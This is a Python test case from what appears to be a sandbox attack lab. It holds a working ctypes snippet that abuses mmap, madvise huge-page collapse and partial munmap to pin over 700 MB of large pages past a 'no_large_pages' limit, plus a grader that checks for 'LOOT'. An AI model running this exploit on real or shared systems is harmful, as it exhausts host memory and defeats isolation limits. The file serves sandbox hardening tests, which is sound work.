"""Wants the machine's memory, by 4 KB of each of many pages of 2 MB: the rest of a page is given back, and stays taken.

Won: more than the limit (700 MB) was had in large pages.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "no_large_pages"
CELL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
large, had = 2 << 20, 0
for _ in range(400):
    at = libc.mmap(None, 2 * large, 3, 0x22, -1, 0)
    start = (at + large - 1) // large * large
    ctypes.c_char.from_address(start).value = b"x"
    had += libc.madvise(start, large, 25) == 0  # into a large page, where the kernel makes any
    libc.munmap(at, start - at)
    libc.munmap(start + 4096, at + large - start + large - 4096)
if 2 * had > 700:
    raise Exception(f"LOOT {2 * had} MB in large pages")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot
